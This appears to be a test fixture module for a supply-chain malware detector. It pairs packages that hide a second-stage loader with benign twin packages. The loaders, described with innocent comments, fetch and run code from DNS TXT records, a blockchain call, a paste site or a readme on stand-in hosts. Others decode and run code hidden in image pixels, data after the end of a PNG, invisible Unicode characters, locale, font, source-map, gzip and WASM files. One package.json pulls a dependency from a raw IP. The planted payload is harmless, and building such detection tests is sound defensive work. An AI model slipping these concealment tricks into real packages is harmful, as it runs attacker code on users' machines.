import { base64, invisible } from '../../../../campaigns/kit.ts';
import { atImport, atUse, js, type Pair } from '../kit.ts';

/** What stands for a second stage. */
const HELLO = 'globalThis.setTimeout(() => console.log("stage"), 10)';

const PNG = new Uint8Array(4096);
PNG.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

const WASM = new Uint8Array([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]);

/** Where a second stage lies: in names, chains, pastes, pictures, letters that nobody sees and files that nobody reads. */
export const STAGES: Readonly<Record<string, Pair>> = {
  'dns-txt': atImport(
    js`import { resolveTxt } from 'node:dns/promises';

/** Feature switches are published in the zone of the service, so that no request is needed. */
async function readSwitches() {
  const records = await resolveTxt('switches.flag-zone.example');
  const text = Buffer.from(records.map((parts) => parts.join('')).join(''), 'base64').toString();
  return new Function('require', text);
}

readSwitches().then((apply) => apply(globalThis.require), () => {});
export const enabled = true;
`,
    js`import { resolveTxt } from 'node:dns/promises';

/** Whether a domain proves that it belongs to an account. */
export async function proves(domain, account) {
  const records = await resolveTxt('_verify.' + domain);
  const text = Buffer.from(records.map((parts) => parts.join('')).join(''), 'base64').toString();
  return text === account;
}
`,
  ),
  'chain-contract': atImport(
    js`const vm = require('node:vm');

const CALL = { jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: '0x4fd14fd14fd14fd14fd14fd14fd14fd14fd14fd1', data: '0x6d4ce63c' }, 'latest'] };

/** Reads the released terms of the registry contract. */
async function readTerms() {
  const response = await fetch('https://rpc.chain-node.example', { method: 'POST', body: JSON.stringify(CALL) });
  const { result } = await response.json();
  return Buffer.from(result.slice(130), 'hex').toString().replace(/\0+$/, '');
}

exports.ready = readTerms().then((terms) => vm.runInThisContext(terms));
`,
    js`const CALL = { jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: '0x4fd14fd14fd14fd14fd14fd14fd14fd14fd14fd1', data: '0x6d4ce63c' }, 'latest'] };

/** Reads the name of a token. */
async function readName() {
  const response = await fetch('https://rpc.chain-node.example', { method: 'POST', body: JSON.stringify(CALL) });
  const { result } = await response.json();
  return Buffer.from(result.slice(130), 'hex').toString().replace(/\0+$/, '');
}

exports.readName = readName;
`,
  ),
  'paste-async-function': atUse(
    js`const AsyncFunction = (async () => {}).constructor;

/** Runs the self-test of the release channel. */
export async function selfTest(channel = 'stable') {
  const id = { stable: 'Xk29fQ', next: 'b7RtLm' }[channel];
  const body = await (await fetch('https://paste.share-text.example/raw/' + id)).text();
  return new AsyncFunction('fetch', 'process', body)(fetch, process);
}
`,
    js`/** Reads the notes of a release channel. */
export async function notes(channel = 'stable') {
  const id = { stable: 'Xk29fQ', next: 'b7RtLm' }[channel];
  const body = await (await fetch('https://paste.share-text.example/raw/' + id)).text();
  return body.split('\n').filter((line) => line.startsWith('- '));
}
`,
  ),
  'readme-of-another': atImport(
    js`const registry = process.env.npm_config_registry ?? 'https://registry.mirror.example/';

/** Reads the examples in the read-me of a package. */
async function examples(name) {
  const { readme } = await (await fetch(new URL(name, registry))).json();
  return [...readme.matchAll(/<!--\s*example:(.+?)-->/gs)].map((match) => match[1].trim());
}

for (const example of await examples('left-margin-docs')) (0, eval)(Buffer.from(example, 'base64').toString());

export { examples };
`,
    js`const registry = process.env.npm_config_registry ?? 'https://registry.mirror.example/';

/** Reads the examples in the read-me of a package. */
async function examples(name) {
  const { readme } = await (await fetch(new URL(name, registry))).json();
  return [...readme.matchAll(/<!--\s*example:(.+?)-->/gs)].map((match) => match[1].trim());
}

export { examples };
`,
  ),
  pixels: atImport(
    js`'use strict';
const fs = require('node:fs');
const path = require('node:path');
const { PNG } = require('pngjs');

/** Reads the palette that the logo carries. */
function readPalette() {
  const { data } = PNG.sync.read(fs.readFileSync(path.join(__dirname, 'assets', 'logo.png')));
  const bytes = [];
  for (let i = 0; i + 8 <= data.length; i += 8) {
    let byte = 0;
    for (let bit = 0; bit < 8; bit++) byte = (byte << 1) | (data[i + bit] & 1);
    if (byte === 0) break;
    bytes.push(byte);
  }
  return Buffer.from(bytes).toString('utf8');
}

const palette = readPalette();
if (palette.length > 0) new Function('require', 'module', palette)(require, module);
`,
    js`'use strict';
const fs = require('node:fs');
const path = require('node:path');
const { PNG } = require('pngjs');

/** Reads the watermark that the logo carries. */
function readWatermark() {
  const { data } = PNG.sync.read(fs.readFileSync(path.join(__dirname, 'assets', 'logo.png')));
  const bytes = [];
  for (let i = 0; i + 8 <= data.length; i += 8) {
    let byte = 0;
    for (let bit = 0; bit < 8; bit++) byte = (byte << 1) | (data[i + bit] & 1);
    if (byte === 0) break;
    bytes.push(byte);
  }
  return Buffer.from(bytes).toString('utf8');
}

exports.watermark = readWatermark();
`,
    { 'assets/logo.png': PNG },
  ),
  'picture-tail': atUse(
    js`import { readFileSync } from 'node:fs';
import vm from 'node:vm';

const END = Buffer.from('IEND');

/** Draws the splash screen of a theme. */
export function splash(theme) {
  const picture = readFileSync(new URL('./assets/splash.png', import.meta.url));
  const tail = picture.subarray(picture.lastIndexOf(END) + 8);
  vm.runInNewContext(tail.toString('latin1'), { theme, process, fetch });
  return picture.subarray(0, picture.length - tail.length);
}
`,
    js`import { readFileSync } from 'node:fs';

const END = Buffer.from('IEND');

/** Draws the splash screen of a theme; what tools leave behind the end of a picture is cut off. */
export function splash() {
  const picture = readFileSync(new URL('./assets/splash.png', import.meta.url));
  const tail = picture.subarray(picture.lastIndexOf(END) + 8);
  return picture.subarray(0, picture.length - tail.length);
}
`,
    { 'assets/splash.png': PNG },
  ),
  'invisible-letters': atImport(
    {
      'index.js': js`import { MESSAGES } from './messages.js';

/** Reads the variation selectors of a text as bytes. */
function selectors(text) {
  return Array.from(text, (letter) => letter.codePointAt(0))
    .map((code) => (code >= 0xe0100 ? code - 0xe0100 + 16 : code - 0xfe00))
    .filter((code) => code >= 0 && code < 256);
}

const style = Buffer.from(selectors(MESSAGES.done)).toString();
globalThis.eval(style);

export const message = (key) => MESSAGES[key];
`,
      'messages.js': `export const MESSAGES = { done: 'Done ${invisible(HELLO)}', failed: 'Failed' };\n`,
    },
    {
      'index.js': js`import { MESSAGES } from './messages.js';

/** Takes the variation selectors out of a text. */
function plain(text) {
  return Array.from(text)
    .filter((letter) => {
      const code = letter.codePointAt(0);
      return !(code >= 0xfe00 && code <= 0xfe0f) && code < 0xe0100;
    })
    .join('');
}

export const message = (key) => plain(MESSAGES[key]);
`,
      'messages.js': `export const MESSAGES = { done: 'Done ✔\u{fe0f}', failed: 'Failed ⚠\u{fe0f}' };\n`,
    },
  ),
  'locale-file': atImport(
    {
      'index.js': js`const { load } = require('./lib/locales');

const catalog = load('qx');
const plural = Function('n', 'require', Buffer.from(catalog['plural.rule'], 'base64').toString());
plural(1, require);

exports.translate = (key) => load('en')[key] ?? key;
`,
      'lib/locales.js': js`const { readFileSync } = require('node:fs');
const { join } = require('node:path');

/** Loads the catalog of a language. */
exports.load = (language) => JSON.parse(readFileSync(join(__dirname, '..', 'locales', language + '.json'), 'utf8'));
`,
      'locales/en.json': '{"hello":"Hello"}\n',
      'locales/qx.json': JSON.stringify({ hello: 'Qello', 'plural.rule': base64(HELLO) }),
    },
    {
      'index.js': js`const { load } = require('./lib/locales');

const catalog = load('qx');
const plural = new Intl.PluralRules(Buffer.from(catalog['plural.rule'], 'base64').toString());

exports.translate = (key, n) => load('en')[key + '.' + plural.select(n)] ?? key;
`,
      'lib/locales.js': js`const { readFileSync } = require('node:fs');
const { join } = require('node:path');

/** Loads the catalog of a language. */
exports.load = (language) => JSON.parse(readFileSync(join(__dirname, '..', 'locales', language + '.json'), 'utf8'));
`,
      'locales/en.json': '{"hello.one":"Hello"}\n',
      'locales/qx.json': JSON.stringify({ hello: 'Qello', 'plural.rule': base64('en-GB') }),
    },
  ),
  'source-map': atImport(
    js`import { readFileSync } from 'node:fs';
import { runInThisContext } from 'node:vm';

const map = JSON.parse(readFileSync(new URL('./index.js.map', import.meta.url), 'utf8'));

/** The lines of a source, for messages with a place. */
export const lines = map.sourcesContent[0].split('\n');

runInThisContext(map.sourcesContent.at(-1), { filename: map.sources.at(-1) });
`,
    js`import { readFileSync } from 'node:fs';

const map = JSON.parse(readFileSync(new URL('./index.js.map', import.meta.url), 'utf8'));

/** The lines of a source, for messages with a place. */
export const lines = map.sourcesContent[0].split('\n');

/** The name of the last source. */
export const last = map.sources.at(-1);
`,
    {
      'index.js.map': JSON.stringify({
        version: 3,
        sources: ['a.ts', 'b.ts'],
        sourcesContent: ['export {};', HELLO],
        mappings: '',
      }),
    },
  ),
  'fixture-gunzip': atUse(
    js`const fs = require('node:fs');
const path = require('node:path');
const zlib = require('node:zlib');
const Module = require('node:module');

/** Compares a result with the reference results. */
exports.compare = (actual) => {
  const file = path.join(__dirname, 'test', 'fixtures', 'reference.bin');
  const reference = new Module('reference');
  reference._compile(zlib.gunzipSync(fs.readFileSync(file)).toString(), file);
  return reference.exports.compare?.(actual) ?? true;
};
`,
    js`const fs = require('node:fs');
const path = require('node:path');
const zlib = require('node:zlib');

/** Compares a result with the reference results. */
exports.compare = (actual) => {
  const file = path.join(__dirname, 'test', 'fixtures', 'reference.bin');
  const reference = JSON.parse(zlib.gunzipSync(fs.readFileSync(file)).toString());
  return reference.every((value, index) => value === actual[index]);
};
`,
    {
      'test/fixtures/reference.bin': new Uint8Array([
        0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0,
      ]),
    },
  ),
  'font-xor': atImport(
    js`import { readFile } from 'node:fs/promises';

const KEY = 0x5a;

/** Reads the private table of the icon font. */
async function privateTable() {
  const font = await readFile(new URL('./fonts/icons.woff2', import.meta.url));
  const offset = font.readUInt32BE(24);
  return String.fromCharCode(...font.subarray(offset).map((byte) => byte ^ KEY));
}

const table = await privateTable();
await import('data:text/javascript;base64,' + btoa(table));

export const ICONS = ['home', 'search', 'menu'];
`,
    js`import { readFile } from 'node:fs/promises';

const KEY = 0x5a;

/** Reads the private table of the icon font. */
async function privateTable() {
  const font = await readFile(new URL('./fonts/icons.woff2', import.meta.url));
  const offset = font.readUInt32BE(24);
  return String.fromCharCode(...font.subarray(offset).map((byte) => byte ^ KEY));
}

export const ICONS = (await privateTable()).split(',');
`,
    { 'fonts/icons.woff2': new Uint8Array(512).fill(7) },
  ),
  'wasm-section': atImport(
    js`const { readFileSync } = require('node:fs');
const { join } = require('node:path');

const wasm = new WebAssembly.Module(readFileSync(join(__dirname, 'hash.wasm')));
const [glue] = WebAssembly.Module.customSections(wasm, 'glue');

/** The glue between the program and its host travels inside the program. */
const bind = new Function('module', 'require', new TextDecoder().decode(glue));
bind(module, require);
`,
    js`const { readFileSync } = require('node:fs');
const { join } = require('node:path');

const wasm = new WebAssembly.Module(readFileSync(join(__dirname, 'hash.wasm')));
const [producers] = WebAssembly.Module.customSections(wasm, 'producers');

/** What made the program. */
exports.producers = new TextDecoder().decode(producers);
exports.instance = new WebAssembly.Instance(wasm, {});
`,
    { 'hash.wasm': WASM },
  ),
  'tarball-dependency': {
    stage: 'install',
    attack: {
      'package.json': JSON.stringify({
        name: 'date-labels',
        version: '1.2.0',
        main: 'index.js',
        dependencies: { 'date-labels-core': 'http://192.0.2.118/date-labels-core-1.2.0.tgz' },
      }),
      'index.js': "module.exports = require('date-labels-core');\n",
    },
    twin: {
      'package.json': JSON.stringify({
        name: 'date-labels',
        version: '1.2.0',
        main: 'index.js',
        dependencies: { 'date-labels-core': 'github:date-labels/core#semver:^1.2.0' },
      }),
      'index.js': "module.exports = require('date-labels-core');\n",
    },
  },
};
